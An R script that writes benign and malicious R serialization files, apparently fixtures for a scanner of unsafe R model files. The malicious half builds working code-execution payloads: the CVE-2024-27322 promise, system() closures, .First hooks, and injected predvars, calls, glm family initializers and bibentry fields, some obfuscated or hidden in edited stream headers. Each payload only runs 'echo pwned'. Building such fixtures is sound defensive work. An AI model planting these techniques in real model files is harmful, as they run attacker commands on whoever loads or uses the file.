#!/usr/bin/env Rscript
# Generates samples/r/: R serialization files written by R itself (saveRDS, serialize, save).
# Run from the repository root: Rscript samples/generate/r.R
# Nothing here ever reads the malicious files back (R < 4.4 would run their payload on access).
set.seed(42)
out <- file.path("samples", "r")
dir.create(file.path(out, "benign"), recursive = TRUE, showWarnings = FALSE)
dir.create(file.path(out, "malicious"), recursive = TRUE, showWarnings = FALSE)
b <- function(name) file.path(out, "benign", name)
m <- function(name) file.path(out, "malicious", name)

df <- data.frame(
  x = 1:10,
  y = round(rnorm(10), 3),
  s = letters[1:10],
  f = factor(rep(c("lo", "hi"), 5)),
  stringsAsFactors = FALSE
)

# Benign: a data.frame in every encoding and compression R writes.
saveRDS(df, b("dataframe.rds"))                                  # XDR, version 3, gzip
saveRDS(df, b("dataframe_v2.rds"), version = 2)                  # XDR, version 2, gzip
saveRDS(df, b("dataframe_ascii.rds"), ascii = TRUE, compress = FALSE)
saveRDS(df, b("dataframe_ascii_gz.rds"), ascii = TRUE)
saveRDS(df, b("dataframe_uncompressed.rds"), compress = FALSE)
saveRDS(df, b("dataframe_bzip2.rds"), compress = "bzip2")
saveRDS(df, b("dataframe_xz.rds"), compress = "xz")
con <- file(b("dataframe_native.rds"), "wb")
invisible(serialize(df, con, xdr = FALSE))                                # "B\n": native little-endian
close(con)

# Benign: a fitted linear model. Its `call` and `terms` are language objects (data, never
# evaluated by readRDS).
fit <- lm(mpg ~ wt + hp, data = mtcars)
saveRDS(fit, b("lm.rds"))

# Benign but honest: a binomial glm fit carries its family's functions (linkinv, dev.resids,
# aic ...), which predict() and friends call: code shipped in the data (suspicious, not malicious:
# their .Call()s name stats' own routines from namespace:stats).
gfit <- glm(am ~ wt, data = mtcars, family = binomial)
saveRDS(gfit, b("glm_binomial.rds"))

# Benign: a list model (coefficients, names, a matrix).
model <- list(coefficients = c(a = 1.5, b = -0.25), vocab = c("cat", "dog"),
              weights = matrix(runif(6), 2, 3), meta = list(version = "1.0", trained = TRUE))
class(model) <- "mymodel"
saveRDS(model, b("list_model.rds"))

# Benign: a save() workspace (RDX3), default gzip, and an uncompressed ASCII one (RDA3).
coefs <- c(1, 2, 3)
labels <- c("a", "b")
save(df, coefs, labels, file = b("workspace.RData"))
save(coefs, labels, file = b("workspace_ascii.rda"), ascii = TRUE, compress = FALSE)

# Malicious: CVE-2024-27322. A promise (delayedAssign) in an environment: accessing obj$model
# after readRDS forces it and runs the command.
e <- new.env(parent = globalenv())
delayedAssign("model", system("echo pwned"), assign.env = e)
saveRDS(e, m("promise_env.rds"))

# Malicious: a closure that calls system(), shipped as the predict function of a list model.
evil <- list(coefficients = c(1, 2), predict = function(x) system("echo pwned"))
saveRDS(evil, m("closure_system.rds"), compress = FALSE)

# Malicious: the same closure compiled to bytecode.
compiled <- compiler::cmpfun(function(x) system("echo pwned"))
saveRDS(compiled, m("bytecode_system.rds"))

# Malicious: a workspace whose .First runs when R starts in its directory.
.First <- function() system("echo pwned")
save(.First, coefs, file = m("workspace_first.RData"))

# Malicious: an lm fit whose predvars run a command when predict() evaluates them.
bad <- lm(mpg ~ wt, data = mtcars)
attr(bad$terms, "predvars") <- quote(list(mpg, system("echo pwned")))
saveRDS(bad, m("lm_predvars.rds"))

# ---------------------------------------------------------------------------------------------
# Legacy workspaces, header variants R reads, and code in model formulas (session 29).

# Benign: fits of base R's recommended packages whose formulas use transforms (poly, log, splines,
# offsets, smooths, strata, random effects) and whose calls carry option lists: the stored calls
# and terms stay clean.
saveRDS(lm(mpg ~ poly(wt, 2) + log(hp) + factor(cyl) + I(disp^2), data = mtcars), b("lm_transforms.rds"))
saveRDS(lm(mpg ~ splines::ns(wt, df = 3) + splines::bs(hp, df = 3), data = mtcars), b("lm_splines.rds"))
ins <- data.frame(n = c(10, 20, 30, 40), exposure = c(100, 150, 210, 260), g = factor(c("a", "b", "a", "b")))
saveRDS(glm(n ~ g + offset(log(exposure)), family = poisson(link = "log"), data = ins), b("glm_offset.rds"))
saveRDS(rpart::rpart(Species ~ ., data = iris, control = rpart::rpart.control(cp = 0.02)), b("rpart.rds"))
saveRDS(nnet::nnet(Species ~ ., data = iris, size = 2, trace = FALSE), b("nnet.rds"))
suppressPackageStartupMessages(library(survival))   # coxph evaluates strata() in its formula
saveRDS(coxph(Surv(time, status) ~ age + strata(sex), data = lung), b("coxph.rds"))
saveRDS(nlme::lme(distance ~ age, random = ~ 1 | Subject, data = nlme::Orthodont), b("lme.rds"))
saveRDS(MASS::lda(Species ~ ., data = iris), b("lda.rds"))
saveRDS(loess(mpg ~ wt, data = mtcars), b("loess.rds"))

# Benign: version-1 workspaces, which R 4 still writes on request (uncompressed, XDR or ASCII).
save(df, coefs, labels, file = b("workspace_v1.rda"), version = 1)
save(coefs, labels, file = b("workspace_v1_ascii.rda"), version = 1, ascii = TRUE)

# Malicious: predvars (evaluated by model.frame() during predict()) that reach system() through
# Find() and a computed name, and through browseURL()'s browser command.
pv <- lm(mpg ~ wt, data = mtcars)
attr(pv$terms, "predvars") <- quote(list(mpg, {Find(paste0("sys", "tem"), "echo pwned"); wt}))
attr(attr(pv$model, "terms"), "predvars") <- attr(pv$terms, "predvars")
saveRDS(pv, m("lm_predvars_find.rds"))
attr(pv$terms, "predvars") <- quote(list(mpg, {utils::browseURL("x", browser = "echo pwned;"); wt}))
attr(attr(pv$model, "terms"), "predvars") <- attr(pv$terms, "predvars")
saveRDS(pv, m("lm_predvars_browseurl.rds"))

# Malicious: version-1 workspaces with a .First and with a promise (load() restores both).
.First <- function() system("echo pwned")
save(.First, coefs, file = m("workspace_first_v1.RData"), version = 1)
save(.First, file = m("workspace_first_v1_ascii.RData"), version = 1, ascii = TRUE)
pe <- new.env(parent = globalenv())
delayedAssign("model", system("echo pwned"), assign.env = pe)
save(pe, file = m("promise_env_v1.rda"), version = 1)
rm(.First)

# Malicious: the CVE-2024-27322 promise under stream headers R reads but never writes: a leading
# newline before the ASCII format line, a signed ASCII version, writer/reader versions 0, a format
# line "XZ". Written by serialize() and edited as bytes.
ascii_stream <- serialize(pe, NULL, ascii = TRUE)
xdr_stream <- serialize(pe, NULL)
put <- function(bytes, name) {
  con <- gzfile(m(name), "wb")
  writeBin(bytes, con)
  close(con)
}
put(c(charToRaw("\n"), ascii_stream), "promise_newline_ascii.rds")
txt <- rawToChar(ascii_stream)
put(charToRaw(sub("^A\n3\n", "A\n+3\n", txt)), "promise_signed_version.rds")
zeroed <- xdr_stream
zeroed[7:14] <- as.raw(0)                                  # writer and oldest-reader versions
put(zeroed, "promise_zero_versions.rds")
xz <- xdr_stream
xz[2] <- charToRaw("Z")
put(xz, "promise_formatline_XZ.rds")

# Malicious: a pre-1.0 ASCII workspace (magic 1976), which load() and R's startup restore still
# read: .First is function() system("echo pwned") and x a promise of system("echo pwned"). R cannot
# write this format any more; the text follows saveload.c's DataLoad: a symbol table, the nodes'
# offsets, then each node (index, type, levels, object bit, attributes, then car/cdr/tag offsets, a
# vector's elements or a string), and the offset of the saved list.
pre1 <- c(
  "1976",
  "3 12 0",
  '0 10 ".First"',
  '1 20 "system"',
  '2 30 "x"',
  "3 40",
  "4 50",
  "5 60",
  "6 70",
  "7 80",
  "8 90",
  "9 100",
  "10 110",
  "11 120",
  "12 130",
  "13 140",
  "14 150",
  "3 2 0 0 -1 60 50 10",
  "4 2 0 0 -1 70 -1 30",
  "5 3 0 0 -1 -1 80 -2",
  "6 5 0 0 -1 -3 120 -2",
  "7 6 0 0 -1 20 90 -1",
  "8 2 0 0 -1 100 -1 -1",
  "9 16 0 0 -1 1 110",
  '10 9 0 0 -1 10 "echo pwned"',
  "11 6 0 0 -1 20 130 -1",
  "12 2 0 0 -1 140 -1 -1",
  "13 16 0 0 -1 1 150",
  '14 9 0 0 -1 10 "echo pwned"',
  "40"
)
writeLines(pre1, m("workspace_pre1.RData"))

# ---------------------------------------------------------------------------------------------
# Text that model methods parse into code, stored calls of non-fitters, partial attribute names,
# and nls fits (session 29, second round).

# Benign: nls fits (stats' nlsModel closures evaluate the model's own formula; a compiled nls
# keeps promises of its arguments, forced or not) and formulas given as literal text.
nd <- data.frame(x = seq(1, 5, length.out = 30))
nd$y <- 3 * exp(0.4 * nd$x) + round(sin(1:30) / 5, 3)
saveRDS(nls(y ~ a * exp(b * x), data = nd, start = list(a = 1, b = 0.1)), b("nls.rds"))
saveRDS(nls(y ~ exp(b * x), data = nd, start = list(b = 0.1), algorithm = "plinear"), b("nls_plinear.rds"))
sd <- data.frame(x = seq(1, 5, length.out = 30))
sd$y <- 10 - 8 * exp(-0.5 * sd$x) + round(cos(1:30) / 50, 4)
saveRDS(nls(y ~ SSasymp(x, Asym, R0, lrc), data = sd), b("nls_selfstart.rds"))
saveRDS(lm(as.formula("mpg ~ wt + log(hp)"), data = mtcars), b("lm_asformula_literal.rds"))
saveRDS(lm(reformulate(c("wt", "hp"), response = "mpg"), data = mtcars), b("lm_reformulate_literal.rds"))

# Malicious: predvars and stored calls that reach system() through text stats parses:
# formula.character evaluates any text that is not a `~` formula, fitters take a formula as text.
base_fit <- lm(mpg ~ wt, data = mtcars)
with_predvars <- function(pv, name, attr_name = "predvars") {
  f <- base_fit
  tt <- f$terms
  attr(tt, "predvars") <- NULL
  attr(tt, attr_name) <- pv
  f$terms <- tt
  saveRDS(f, m(name))
}
with_call <- function(cl, name) {
  f <- base_fit
  f$call <- cl
  saveRDS(f, m(name))
}
with_predvars(quote(list(mpg, as.formula(paste0("{sys", "tem('echo pwned')}")))), "lm_predvars_asformula.rds")
with_predvars(quote(list(mpg, formula("{system('echo pwned')}"))), "lm_predvars_formula_text.rds")
with_predvars(quote(list(mpg, stats:::formula.character(paste0("{sys", "tem('echo pwned')}")))),
              "lm_predvars_formula_internal.rds")
# attr(x, "predvars") also finds an attribute named predvars_ (partial matching)
with_predvars(quote(postscript(mpg, file = "|echo pwned")), "lm_predvars_partial_name.rds", "predvars_")
with_call(quote(postscript(file = "|echo pwned")), "lm_call_postscript.rds")
with_call(quote(lm(formula = as.formula(paste0("{sys", "tem('echo pwned')}")), data = mtcars)),
          "lm_call_asformula.rds")
with_call(quote(lm(formula = reformulate(paste0("sys", "tem('echo pwned')"), response = "mpg"), data = mtcars)),
          "lm_call_reformulate.rds")
with_call(quote(lm(formula = "{system('echo pwned')}", data = mtcars)), "lm_call_formula_text.rds")
with_call(quote(lm(formula = paste0("{sys", "tem('echo pwned')}"), data = mtcars)), "lm_call_formula_paste.rds")

# Rebinding an allowed name, then calling it (log <- pipe; log("cmd", "r")), and Rd code that
# printing a bibentry runs. Benign: glm families whose initialize is an expression vector, citation().
with_predvars(quote(list(mpg, wt, (log = pipe), log("echo pwned", "r"))), "lm_predvars_rebind.rds")
with_call(quote(lm(formula = mpg ~ wt, data = mtcars,
                   na.action = function(object, log = pipe) { log("echo pwned", "r"); object })),
          "lm_call_naaction_function.rds")
with_call(quote(lm(formula = "mpg ~ wt + (log = pipe) + log('echo pwned', 'r')", data = mtcars)),
          "lm_call_formula_text_rebind.rds")
g_init <- glm(mpg ~ wt, data = mtcars)
g_init$family$initialize <- expression(baseenv()[[paste0("sys", "tem")]]("echo pwned"), mustart <- y)
saveRDS(g_init, m("glm_family_initialize_computed.rds"))
saveRDS(bibentry(bibtype = "Misc", title = "Model card", author = "A B", year = 2020,
                 note = "\\Sexpr{system(\"echo pwned\"); \"see docs\"}"), m("bibentry_sexpr.rds"))
saveRDS(bibentry(bibtype = "Misc", title = "Model card", author = "A B", year = 2020,
                 doi = "10.1/x\"); system(\"echo pwned\"); (\""), m("bibentry_doi.rds"))
saveRDS(glm(carb ~ wt, family = poisson(), data = mtcars), b("glm_poisson.rds"))
saveRDS(glm(mpg ~ wt, family = Gamma(link = "log"), data = mtcars), b("glm_gamma.rds"))
saveRDS(citation(), b("citation.rds"))

# aov with error strata (the npk example): `Error(block)` is a term aov takes apart (must stay clean).
saveRDS(aov(yield ~ N * P + Error(block), data = npk), b("aov_error_strata.rds"))
